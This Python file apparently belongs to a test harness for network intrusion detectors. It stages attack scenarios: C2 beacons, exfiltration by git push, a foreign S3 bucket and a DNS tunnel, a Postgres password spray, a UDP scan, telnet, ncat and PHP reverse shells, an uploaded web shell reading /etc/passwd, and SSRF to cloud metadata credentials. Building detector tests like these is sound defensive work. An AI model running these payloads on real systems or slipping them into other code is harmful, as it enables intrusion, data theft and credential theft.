"""Blind: written without a look at the detectors. Calls home, what leaves, ways on inside, shells, and the cloud's metadata."""

from __future__ import annotations

import base64
import gzip
import os
import random
import shutil
import socket
import subprocess
import time
from pathlib import Path

from proving import bundles, zone
from proving.hosts import Asked, Host, Reply
from proving.operators import waits
from proving.scenario import Must, attack
from proving.scenarios.ai_servers import US
from proving.scenarios.movement import talk
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
PORTAL, ORDERS = "portal.service", "orders.service"

DEAD_DROP = """
require 'net/http'
where = URI(ARGV[0])
chance = Random.new(11)
ARGV[1].to_i.times do
  web = Net::HTTP.new(where.host, 443)
  web.use_ssl = true
  said = web.get(where.path, 'User-Agent' => 'Mozilla/5.0').body
  abort('no orders') unless said[/<!-- (.*?) -->/, 1]
  sleep(ARGV[2].to_f * (0.7 + 0.6 * chance.rand))
end
"""


@attack(
    "blind-beacon-dead-drop",
    "a Ruby script reads the same gist on GitHub every four seconds, give or take 30 %: its orders stand in a comment there",
    must=(Must("beaconing", PORTAL, "githubusercontent", within=8 * 4 * 1.3 + 1),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("ruby",),
)
def dead_drop(world: World) -> None:
    gist = world.host("198.51.100.171", "gist.githubusercontent.com")
    gist.http(443, lambda asked: Reply("notes on fonts\n<!-- bm90aGluZw== -->\n"), tls=True)
    path = world.file("/srv/portal/tmp/cache/fonts.rb", DEAD_DROP)
    url = "https://gist.githubusercontent.com/k-maint/5d1f0c3e/raw/notes.md"
    world.mark()
    world.run("ruby", path, url, "14", "4", unit=PORTAL, timeout=120)
    assert len(gist.requests) == 14


ROTATING = """<?php
mt_srand(5);
$hosts = array_slice($argv, 2);
$order = [];
for ($n = 0; $n < (int)$argv[1]; $n++) {
    if (!$order) { $order = $hosts; shuffle($order); }
    $host = array_pop($order);
    $peer = stream_socket_client("tls://$host:443", $code, $text, 5) or exit(1);
    fwrite($peer, random_bytes(random_int(24, 60)));
    if (strlen(fread($peer, 256)) < 1) exit(2);
    fclose($peer);
    usleep((int)(2e6 * (0.7 + 0.6 * mt_rand() / mt_getrandmax())));
}
"""


def _few(connection: socket.socket) -> None:
    while connection.recv(256):
        connection.sendall(b"o" * 20)


@attack(
    "blind-beacon-rotating",
    "a PHP script calls one of three hosts every two seconds, give or take 30 %, in an order that it shuffles",
    must=(Must("beaconing", PORTAL),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("php",),
)
def rotating(world: World) -> None:
    """Each of the hosts is called every six seconds on average, twelve times."""
    names = [f"{word}.example" for word in ("img.fastly-edge", "status.web-fonts", "cdn3.static-js")]
    for number, name in enumerate(names):
        world.host(f"203.0.113.{21 + number}", name).listen(443, _few, tls=True)
    path = world.file("/srv/portal/var/session.php", ROTATING)
    world.mark()
    world.run("php", path, "36", *names, unit=PORTAL, timeout=150)


H2_IMPLANT = """
const http2 = require('http2'), crypto = require('crypto');
const session = http2.connect(process.argv[2]);
session.on('error', error => { console.error(error.message); process.exit(1); });
const stream = session.request({':method': 'POST', ':path': '/v2/channel', 'content-type': 'application/grpc'});
let left = Number(process.argv[3]), heard = 0;
stream.on('data', data => { heard += data.length; });
(function beat() {
  stream.write(crypto.randomBytes(30 + Math.floor(Math.random() * 20)));
  if (!--left) return setTimeout(() => { console.log('heard', heard); process.exit(0); }, 500);
  setTimeout(beat, 3000 * (0.8 + 0.4 * Math.random()));
})();
"""


def _frame(kind: int, flags: int, stream: int, data: bytes = b"") -> bytes:
    return len(data).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + data


def _exactly(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        more = connection.recv(size - len(data))
        if not more:
            raise ConnectionError("gone")
        data += more
    return data


def h2(connection: socket.socket) -> None:
    """As much of HTTP/2 (RFC 9113) as one open stream needs: 20 bytes for each DATA frame."""
    _exactly(connection, 24)
    connection.sendall(_frame(4, 0, 0))
    while True:
        head = _exactly(connection, 9)
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
        data = _exactly(connection, int.from_bytes(head[:3], "big"))
        if kind in (4, 6) and not flags & 1:
            connection.sendall(_frame(kind, 1, 0, b"" if kind == 4 else data))
        elif kind == 1:
            connection.sendall(_frame(1, 4, stream, b"\x88"))
        elif kind == 0 and data:
            connection.sendall(_frame(0, 0, stream, os.urandom(20)))


@attack(
    "blind-beacon-h2-stream",
    "a Node script holds one HTTP/2 stream open over TLS and writes a few bytes into it every three seconds, give or take 20 %",
    must=(Must("beaconing", PORTAL, within=8 * 3 * 1.2 + 1),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("node",),
)
def h2_stream(world: World) -> None:
    world.host("203.0.113.26", "rpc.asset-sync.example").listen(443, h2, tls=True)
    path = world.file("/srv/portal/.cache/rpc.js", H2_IMPLANT)
    world.mark()
    said = world.run("node", path, "https://rpc.asset-sync.example", "18", unit=PORTAL, timeout=100)
    if "heard 3" not in said:
        raise ScenarioError(said)


def smart_http(host: Host, repository: Path) -> None:
    """A Git server over HTTPS: fetch and push (gitprotocol-http)."""

    def serve(asked: Asked) -> Reply:
        at = asked.path.split("?")[0]
        service = asked.path.rsplit("=", 1)[1] if at.endswith("/info/refs") else at.rsplit("/", 1)[1]
        if service not in ("git-upload-pack", "git-receive-pack"):
            return Reply(b"", 404)
        command = ["git", service[4:], "--stateless-rpc"]
        environment = {**os.environ, "GIT_PROTOCOL": asked.headers.get("git-protocol", "")}
        if at.endswith("/info/refs"):
            done = subprocess.run([*command, "--advertise-refs", str(repository)], capture_output=True, env=environment)
            line = f"# service={service}\n".encode()
            body = b"%04x" % (len(line) + 4) + line + b"0000" + done.stdout
            return Reply(body, kind=f"application/x-{service}-advertisement")
        done = subprocess.run([*command, str(repository)], input=_plain(asked), capture_output=True, env=environment)
        return Reply(done.stdout, kind=f"application/x-{service}-result")

    host.http(443, serve, tls=True)


def _plain(asked: Asked) -> bytes:
    return gzip.decompress(asked.body) if asked.headers.get("content-encoding") == "gzip" else asked.body


PUSH = """
cd /srv/catalog/data && git init -q -b main . && git add -A
git -c user.name=sync -c user.email=sync@localhost commit -q -m sync
git push -q https://code.mirror-hub.example/u/archive.git main && echo pushed
"""


@attack(
    "blind-exfil-git-push",
    "a service's shell makes a repository of a folder of 14 MB and pushes it to a Git server that nobody here knows",
    must=(Must("data-exfiltration", "catalog.service", "mirror-hub.example"),),
    may=MAY,
    must_not=NOT,
    tools=("git",),
)
def git_push(world: World) -> None:
    (world.root / "theirs.git").mkdir()
    subprocess.run(["git", "init", "-q", "--bare", str(world.root / "theirs.git")], check=True)
    remote = world.host("203.0.113.28", "code.mirror-hub.example")
    smart_http(remote, world.root / "theirs.git")
    for number in range(7):
        world.file(f"/srv/catalog/data/part{number}.bin", os.urandom(2 << 20))
    world.mark()
    said = world.run("sh", "-c", PUSH, unit="catalog.service")
    if "pushed" not in said or remote.received < 14 << 20:
        raise ScenarioError(said)


CHUNKS = """
cd /tmp && split -b 300k /srv/media/customers.parquet .p-
for f in .p-*; do curl -sS -T $f https://fx-archive-9.s3.eu-west-1.amazonaws.com/in/$f; rm $f; sleep 0.7; done
"""


@attack(
    "blind-exfil-foreign-bucket",
    "a service that keeps its files in the company's bucket has 12 MB put into somebody else's, in pieces of 300 kB, by curl",
    must=(Must("data-exfiltration", "media.service", "fx-archive-9"),),
    may=MAY,
    must_not=NOT,
    tools=("curl", "split"),
)
def foreign_bucket(world: World) -> None:
    ours = world.host("198.51.100.172", "acme-media.s3.eu-central-1.amazonaws.com")
    ours.http(443, lambda asked: Reply(b""), tls=True)
    theirs = world.host("198.51.100.173", "fx-archive-9.s3.eu-west-1.amazonaws.com")
    theirs.http(443, lambda asked: Reply(b""), tls=True)
    code = (
        "import httpx, os, time\nfor n in range(4):\n    httpx.put('https://acme-media.s3.eu-central-1.amazonaws.com/'\n"
        "        f'i/{n}.webp', content=os.urandom(20000)).raise_for_status()\n    time.sleep(1)\n"
    )
    world.run(world.python, world.file("/srv/media/store.py", code), unit="media.service")
    world.file("/srv/media/customers.parquet", os.urandom(12_000_000))
    world.mark()
    world.run("bash", "-c", CHUNKS, unit="media.service", timeout=120)
    assert theirs.received == 12_000_000


DNS_TCP = """<?php
[$_, $server, $domain, $size] = $argv;
$data = random_bytes((int)$size);
$peer = null;
foreach (str_split(bin2hex($data), 180) as $n => $piece) {
    if ($n % 40 == 0) { $peer and fclose($peer); $peer = stream_socket_client("tcp://$server:53", $c, $t, 5) or exit(1); }
    $name = '';
    foreach ([...str_split($piece, 60), ...explode('.', $domain)] as $label) $name .= chr(strlen($label)) . $label;
    $ask = pack('n6', random_int(0, 65535), 0x100, 1, 0, 0, 0) . $name . "\\0" . pack('n2', 16, 1);
    fwrite($peer, pack('n', strlen($ask)) . $ask);
    $want = unpack('n', fread($peer, 2))[1];
    while ($want > 0) { $got = fread($peer, $want); if ($got === '' || $got === false) exit(2); $want -= strlen($got); }
    usleep(60000);
}
echo "sent\\n";
"""


def dns_tcp(connection: socket.socket) -> None:
    """A name server over TCP (RFC 7766) that answers 32 random bytes of text to whatever it is asked."""
    while True:
        ask = _exactly(connection, int.from_bytes(_exactly(connection, 2), "big"))
        data = zone.text(os.urandom(16).hex().encode())
        record = b"\xc0\x0c" + (16).to_bytes(2, "big") + b"\0\1\0\0\0\0" + len(data).to_bytes(2, "big") + data
        said = ask[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + ask[12:] + record
        connection.sendall(len(said).to_bytes(2, "big") + said)


@attack(
    "blind-dns-tunnel-tcp",
    "a PHP script takes 27 kB out as names of TXT questions, over TCP and straight to a name server outside",
    must=(Must("dns-tunnel", PORTAL),),
    may=("data-exfiltration", *MAY),
    must_not=NOT,
    tools=("php",),
)
def dns_over_tcp(world: World) -> None:
    world.host("203.0.113.211").listen(53, dns_tcp)
    path = world.file("/srv/portal/var/dump.php", DNS_TCP)
    world.mark()
    said = world.run("php", path, "203.0.113.211", "t.stats-collector.example", "27000", unit=PORTAL)
    if "sent" not in said:
        raise ScenarioError(said)


def postgres(connection: socket.socket) -> None:
    """Wants a password and does not like it (PostgreSQL's protocol, version 3)."""
    size = int.from_bytes(_exactly(connection, 4), "big")
    if _exactly(connection, size - 4)[:4] == (80877103).to_bytes(4, "big"):  # SSLRequest
        connection.sendall(b"N")
        _exactly(connection, int.from_bytes(_exactly(connection, 4), "big") - 4)
    connection.sendall(b"R\0\0\0\x08\0\0\0\x03")
    _exactly(connection, int.from_bytes(_exactly(connection, 5)[1:], "big") - 4)
    said = b"SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed\0\0"
    connection.sendall(b"E" + (len(said) + 4).to_bytes(4, "big") + said)


@attack(
    "blind-lateral-psql",
    "a web application's shell tries a password on the Postgres of eleven hosts inside, by psql, in no order",
    must=(Must("lateral-movement", "catalog.service"),),
    may=("port-scan", "unexpected-process", "baseline-deviation", "credential-access"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("psql",),
)
def lateral_psql(world: World) -> None:
    world.host("10.77.1.41", "db.internal").listen(5432, talk)
    path = world.program("/srv/catalog/worker.py", "connect.py")
    world.run(world.python, path, "0.3", "db.internal:5432", "db.internal:5432", unit="catalog.service")
    hosts = [f"10.77.{33 + n % 3}.{10 + 7 * n}" for n in range(11)]
    for host in hosts:
        world.host(host).listen(5432, postgres)
    random.Random("psql").shuffle(hosts)
    words = 'timeout 5 psql -h $h -p 5432 -U postgres -d postgres -tAc "select usename from pg_shadow"'
    world.mark()
    said = world.run(
        "sh", "-c", f"for h in {' '.join(hosts)}; do {words}; sleep 1; done; true",
        env={"PGPASSWORD": "Winter2026!", "PGSSLMODE": "prefer"}, unit="catalog.service",
    )  # fmt: skip
    if said.count("authentication failed") != 11:
        raise ScenarioError(said)


UDP_SCAN = """
require 'socket'
ask = ['302602010104067075626c6963a019020400000001020100020100300b300906052b060102010500'].pack('H*')
peer = UDPSocket.new
heard = 0
ARGV.each do |host|
  begin
    peer.send(ask, 0, host, 161)
    sleep 0.3
    heard += 1 while peer.recvfrom_nonblock(1500, exception: false).is_a?(Array)
  rescue SystemCallError
    next
  end
end
puts "heard #{heard}"
"""


@attack(
    "blind-scan-udp",
    "a Ruby script asks port 161 of 50 hosts inside by UDP, one every 0.3 seconds, in no order",
    must=(Must("port-scan", PORTAL, within=20 * 0.3 + 1.5),),
    may=("lateral-movement", "unexpected-process", "baseline-deviation"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("ruby",),
)
def scan_udp(world: World) -> None:
    hosts = [f"10.77.36.{n}" for n in range(1, 51)]
    for host in (hosts[8], hosts[30], hosts[41]):
        world.host(host).udp(161, lambda data: data)
    random.Random("udp").shuffle(hosts)
    path = world.file("/srv/portal/tmp/cache/inv.rb", UDP_SCAN)
    world.mark()
    said = world.run("ruby", path, *hosts, unit=PORTAL)
    if "heard 3" not in said:
        raise ScenarioError(said)


@attack(
    "blind-rshell-telnet-two",
    "a shell between two telnets: commands come from one port of a host beyond, what they print goes to another",
    must=(Must("reverse-shell", ORDERS, "203.0.113.31", within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("telnet",),
)
def telnet_two(world: World) -> None:
    heard: list[bytes] = []

    def order(connection: socket.socket) -> None:
        for question in ("id", "uname -a", "ls /home", "exit"):
            time.sleep(1.0)
            connection.sendall(question.encode() + b"\n")
        time.sleep(1.0)

    def listen(connection: socket.socket) -> None:
        while data := connection.recv(4096):
            heard.append(data)

    c2 = world.host("203.0.113.31")
    c2.listen(8023, order)
    c2.listen(8024, listen)
    world.mark()
    world.run(
        "sh", "-c", "sleep 7 | telnet 203.0.113.31 8023 | /bin/bash | telnet 203.0.113.31 8024; true", unit=ORDERS
    )
    if b"uid=0" not in b"".join(heard):
        raise ScenarioError(str(heard))


@attack(
    "blind-bind-shell-ncat",
    "ncat waits on a port and gives whoever comes from beyond a shell",
    must=(Must("reverse-shell", ORDERS, within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("ncat",),
)
def bind_shell(world: World) -> None:
    actor = world.start("ncat", "-l", "0.0.0.0", "31337", "-e", "/bin/sh", unit=ORDERS)
    world.listening(actor, 31337)
    stranger = world.host("203.0.113.32")
    world.sleep(1.0)
    world.mark()
    heard = b""
    with stranger.connect(US, 31337) as peer:
        for question in (b"id", b"uname -a", b"ls /home", b"exit"):
            peer.sendall(question + b"\n")
            world.sleep(0.7)
        peer.settimeout(3)
        while data := peer.recv(4096):
            heard += data
    actor.wait(10)
    if b"uid=0" not in heard:
        raise ScenarioError(str(heard))


IMPORTER = "<?php if ($_SERVER['REQUEST_URI'] == '/import') eval(file_get_contents('php://input')); echo 'fine';"


@attack(
    "blind-rshell-container-php",
    "code in a request to a PHP application in a container: a shell there whose streams are a socket to a host beyond",
    must=(Must("reverse-shell", "container:", "203.0.113.33", within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration", "container-escape"),
    tools=("runc", "php"),
)
def container_php(world: World) -> None:
    operator = waits(world, "203.0.113.33", 8443)
    world.file("/srv/import/index.php", IMPORTER)
    php = os.path.realpath(shutil.which("php") or "php")  # not by /etc/alternatives, which the container does not have
    container = bundles.start(world, php, "-S", "0.0.0.0:8085", "/app/index.php", binds=[("/srv/import", "/app")])
    try:
        stranger = world.host("203.0.113.34")
        world.wait(lambda: "started" in container.said(), "the server does not start")
        assert stranger.ask(US, 8085, "GET", "/")[0] == 200
        world.sleep(1.0)
        code = (
            "$s = stream_socket_client('tcp://203.0.113.33:8443'); $p = proc_open('sh', [$s, $s, $s], $pipes); "
            "proc_close($p);"
        )
        world.mark()
        assert stranger.ask(US, 8085, "POST", "/import", code.encode())[0] == 200
        if not operator.answered:
            raise ScenarioError(f"{operator.heard} {container.said()}")
    finally:
        container.end()


@attack(
    "blind-web-shell",
    "a stranger uploads a PHP file to a web server, and has it run what the requests say",
    must=(Must("unexpected-process", "site.service"),),
    may=("reverse-shell", "credential-access", "baseline-deviation", "api-access-violation"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
    tools=("php",),
)
def web_shell(world: World) -> None:
    """Before it the server has served pages and taken uploads, and started nothing."""
    world.file("/srv/site/index.php", "<?php echo 'hello';")
    take = "<?php file_put_contents(__DIR__ . '/uploads/' . basename($_GET['name']), file_get_contents('php://input'));"
    world.file("/srv/site/upload.php", take)
    world.file("/srv/site/uploads/readme.txt", "pictures\n")
    actor = world.start("php", "-S", "0.0.0.0:8086", "-t", "/srv/site", unit="site.service")
    world.listening(actor, 8086)
    visitor, stranger = world.host("203.0.113.35"), world.host("203.0.113.36")
    for number in range(6):
        assert visitor.ask(US, 8086, "GET", "/index.php")[0] == 200
        assert visitor.ask(US, 8086, "POST", f"/upload.php?name={number}.webp", os.urandom(3000))[0] == 200
        world.sleep(0.5)
    world.mark()
    shell = b"<?php echo shell_exec(base64_decode($_SERVER['HTTP_X_TRACE']) . ' 2>&1');"
    assert stranger.ask(US, 8086, "POST", "/upload.php?name=av.php", shell)[0] == 200
    said = b""
    for command in (
        "id",
        "uname -a",
        "ls -la /home",
        "cat /etc/passwd | head -3",
        "ps aux | wc -l",
        "df -h / | tail -1",
    ):
        words = {"x-trace": base64.b64encode(command.encode()).decode()}
        said += stranger.ask(US, 8086, "GET", "/uploads/av.php", **words)[1]
        world.sleep(1.0)
    actor.stop()
    if b"uid=0" not in said:
        raise ScenarioError(str(said))


PREVIEW = """
import http.server, sys, urllib.parse, urllib.request
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)['url'][0]
        data = urllib.request.urlopen(url, timeout=5).read(5000)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *words):
        pass
http.server.ThreadingHTTPServer(('0.0.0.0', 8087), Handler).serve_forever()
"""


@attack(
    "blind-metadata-ssrf-mapped",
    "a stranger has a service that makes previews of pages fetch the metadata service, as [::ffff:a9fe:a9fe]",
    must=(Must("metadata-service-access", "preview.service", within=1.0),),
    may=("baseline-deviation", "credential-access"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def ssrf(world: World) -> None:
    cloud = world.host("169.254.169.254")
    cloud.http(80, lambda asked: Reply("preview-role" if asked.path.endswith("/") else {"AccessKeyId": "ASIAEXAMPLE"}))
    world.host("198.51.100.174", "news.example").http(80, lambda asked: Reply("<title>news</title>"))
    actor = world.script(world.file("/srv/preview/app.py", PREVIEW), unit="preview.service")
    world.listening(actor, 8087)
    stranger = world.host("203.0.113.37")
    for number in range(4):
        assert stranger.ask(US, 8087, "GET", f"/?url=http://news.example/{number}")[0] == 200
        world.sleep(0.5)
    world.mark()
    base = "/?url=http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/"
    assert b"preview-role" in stranger.ask(US, 8087, "GET", base)[1]
    world.sleep(0.5)
    assert b"ASIA" in stranger.ask(US, 8087, "GET", f"{base}preview-role")[1]
    world.sleep(1.5)
    actor.stop()
